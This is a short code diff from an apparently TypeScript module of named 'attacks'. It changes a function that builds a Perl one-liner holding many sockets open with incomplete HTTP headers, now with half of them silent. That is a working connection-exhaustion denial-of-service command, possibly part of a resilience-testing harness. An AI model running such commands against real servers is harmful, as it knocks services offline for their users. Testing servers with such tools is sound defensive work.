@@ -59,10 +59,10 @@ export const attacks: Record<string, Attack> = {
   },
 };
 
-/** Keeps as many connections open as it gets, and opens a new one for each that is closed. */
+/** Keeps as many connections open as it gets, of which half say nothing, and opens a new one for each that is closed. */
 function connect(open: string, line: string): string {
   const head = `${line}\\r\\nHost: x\\r\\n\\r\\n`;
-  return `exec perl -MIO::Socket -e 'while (1) { my $s = do { ${open} }; if ($s) { print $s "${head}"; $s->flush; push @all, $s } shift @all if @all > 300 }'`;
+  return `exec perl -MIO::Socket -e 'while (1) { my $s = do { ${open} }; if ($s) { print $s "${head}" if rand() < 0.5; $s->flush; push @all, $s } shift @all if @all > 300 }'`;
 }
 
 export interface Hostility {
